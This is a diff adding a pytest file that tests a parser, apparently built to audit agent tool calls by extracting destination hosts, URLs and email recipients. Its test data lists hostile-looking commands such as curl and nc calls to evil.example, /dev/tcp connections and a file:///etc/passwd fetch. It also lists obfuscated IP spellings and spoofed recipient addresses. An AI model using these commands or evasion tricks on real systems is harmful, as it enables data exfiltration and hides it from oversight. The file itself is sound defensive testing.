@@ -1,0 +1,125 @@
+"""Where a call goes, and whom it would send to."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from engine.derived.hosts import host_of
+from tests.engine.derived.declared import shown
+
+COMMANDS: list[tuple[str, list[str]]] = [
+    ("curl http://EVIL.example:8080/x?y", ["evil.example"]),
+    ("curl evil.example/x -o out.html", ["evil.example"]),
+    ("curl -x proxy.example:80 http://a.example", ["a.example", "proxy.example"]),
+    ("curl -H 'Host: a.example' https://c.example", ["c.example"]),
+    ("curl localhost:3000 -d @x", ["localhost"]),
+    ("curl http://user:pw@evil.example", ["evil.example"]),
+    ("curl 'http://good.example\\@evil.example/'", ["good.example", "evil.example"]),
+    ("wget 0x7f.1/x", ["127.0.0.1"]),
+    ("ssh -p 22 root@10.0.0.1 ls", ["10.0.0.1"]),
+    ("scp a u@host.example:/x", ["host.example"]),
+    ("nc evil.example 80", ["evil.example"]),
+    ("cat < /dev/tcp/1.2.3.4/80", ["1.2.3.4"]),
+    ("git clone git@github.com:a/b", ["github.com"]),
+    ("python3 -c 'requests.get(\"https://пример.рф/x\")'", ["xn--e1afmkfd.xn--p1ai"]),
+    ("rm -rf build.dir", []),
+    ("cat a.b.c", []),
+]
+CALLS: list[tuple[str, Any, str, list[str]]] = [
+    ("http_request", {"url": "HTTPS://Exämple.com./a"}, "hosts", ["xn--exmple-cua.com"]),
+    ("http_request", {"url": "HTTPS://Exämple.com./a"}, "urls", ["https://xn--exmple-cua.com/a"]),
+    ("fetch", {"host": "Evil.EXAMPLE.", "port": 3}, "hosts", ["evil.example"]),
+    ("fetch", {"url": "//evil.example/x"}, "hosts", ["evil.example"]),
+    ("fetch", {"url": "http:\\\\evil.example"}, "hosts", ["evil.example"]),
+    ("fetch", {"args": '{"url": "http://evil.example"}'}, "hosts", ["evil.example"]),
+    ("fetch", {"url": "file:///etc/passwd"}, "hosts", []),
+    ("send_email", {"body": "see http://x.example/z"}, "hosts", []),
+    ("send_email", {"webhook_url": "http://x.example/z"}, "hosts", ["x.example"]),
+    ("frobnicate", {"text": "see http://x.example/z, now."}, "urls", ["http://x.example/z"]),
+]
+
+
+@pytest.mark.parametrize(("command", "hosts"), COMMANDS)
+def test_where_a_command_goes(command: str, hosts: list[str]) -> None:
+    assert shown("Bash", {"command": command}, "hosts") == hosts
+
+
+@pytest.mark.parametrize(("tool", "payload", "member", "found"), CALLS)
+def test_where_a_call_goes(tool: str, payload: Any, member: str, found: list[str]) -> None:
+    assert shown(tool, payload, member) == found
+
+
+@pytest.mark.parametrize(
+    ("text", "host"),
+    [
+        ("2130706433", "127.0.0.1"),
+        ("0x7f000001", "127.0.0.1"),
+        ("0177.0.0.1", "127.0.0.1"),
+        ("127.1", "127.0.0.1"),
+        ("[::FFFF:127.0.0.1]", "127.0.0.1"),
+        ("[2001:DB8:0::1]", "2001:db8::1"),
+        ("1.2.3.4.5", "1.2.3.4.5"),
+        ("0x", "0.0.0.0"),
+        ("09.1", "09.1"),
+        ("999.1.1.1", "999.1.1.1"),
+        ("EXAMPLE。com", "example.com"),
+        ("%65vil.example", "evil.example"),
+    ],
+)
+def test_a_host_has_one_spelling(text: str, host: str) -> None:
+    assert host_of(text) == host
+
+
+A = "a@b.example"
+RECIPIENTS: list[tuple[Any, list[str]]] = [
+    ({"to": "Alice@Acme.com, bob@x.org; c@d.example"}, ["alice@acme.com", "bob@x.org", "c@d.example"]),
+    *(({key: A}, [A]) for key in ("to", "cc", "bcc", "to_email", "recipient_email", "email", "To", "mailTo")),
+    ({"toAddresses": [A]}, [A]),
+    ({"message": {"to": A, "body": "x@y.example"}}, [A]),
+    ({"Destination": {"ToAddresses": [A], "CcAddresses": ["f@g.h"]}}, [A, "f@g.h"]),
+    ({"personalizations": [{"to": [{"email": A}], "cc": [{"email": "c@d.e", "name": "N"}]}]}, [A, "c@d.e"]),
+    ({"attendees": [{"email": A}]}, [A]),
+    ({"to": {"name": "Ann", "address": A}}, [A]),
+    ({"to": '"Doe, Alice" <alice@acme.com>'}, ["alice@acme.com"]),
+    ({"to": "Doe, Alice <alice@acme.com>"}, ["alice@acme.com"]),
+    ({"to": "Team: a@b.example, d@e.f;"}, [A, "d@e.f"]),
+    ({"to": "mailto:a%40b.example?cc=x@y.z&subject=q@r.s"}, [A, "x@y.z"]),
+    ({"to": "alice@acme.com <mallory@evil.example>"}, ["alice@acme.com", "mallory@evil.example"]),
+    ({"to": '"bob@acme.com" <mallory@evil.example>'}, ["mallory@evil.example"]),
+    ({"to": '"a b"@evil.example'}, ["a_b@evil.example"]),
+    ({"to": "a@acme.com@evil.example"}, ["a@acme.com", "a@evil.example"]),
+    ({"to": "a(acme.com)@evil.example"}, ["a@evil.example"]),
+    ({"to": "a@[127.0.0.1]"}, ["a@[127.0.0.1]"]),
+    ({"to": "a\u200b@b.example."}, [A]),
+    ({"to": "alice＠acme。com"}, ["alice@acme.com"]),
+    ({"to": 12345}, ["12345"]),
+    ({"to": "all-staff, a@b.example"}, ["all-staff", A]),
+    ({"invitees": ["Ann", "Bob"]}, ["Ann", "Bob"]),
+    ({"arguments": '{"to": "a\\u0040b.example"}'}, [A]),
+    ({"from": A, "reply_to": "q@r.s", "subject": "to x@y.z", "body": "x@y.z"}, []),
+    ({"to": True, "cc": None, "bcc": ["", {}]}, []),
+]
+
+
+@pytest.mark.parametrize(("payload", "found"), RECIPIENTS)
+def test_recipients_are_found_however_they_are_written(payload: Any, found: list[str]) -> None:
+    assert shown("send_email", payload, "recipients") == found
+
+
+@pytest.mark.parametrize(
+    ("tool", "payload", "domains"),
+    [
+        ("send_email", {"to": ["A@Acme.COM", "x", "b@аcme.com"]}, ["acme.com", "xn--cme-5cd.com"]),
+        ("slack_post", {"channel": "#general", "text": A}, []),
+        ("slack_post", {"to": 12}, []),
+        ("create_calendar_event", {"attendees": [A], "organizer": "me@x.y"}, ["b.example"]),
+        ("share_file", {"email": A, "role": "writer"}, ["b.example"]),
+        ("move_file", {"to": "a@b/c"}, []),
+        ("run_sql", {"email": A}, []),
+        ("frobnicate", {"to": "/tmp/x"}, []),
+    ],
+)
+def test_domains_are_those_of_addresses(tool: str, payload: Any, domains: list[str]) -> None:
+    assert shown(tool, payload, "recipientDomains") == domains
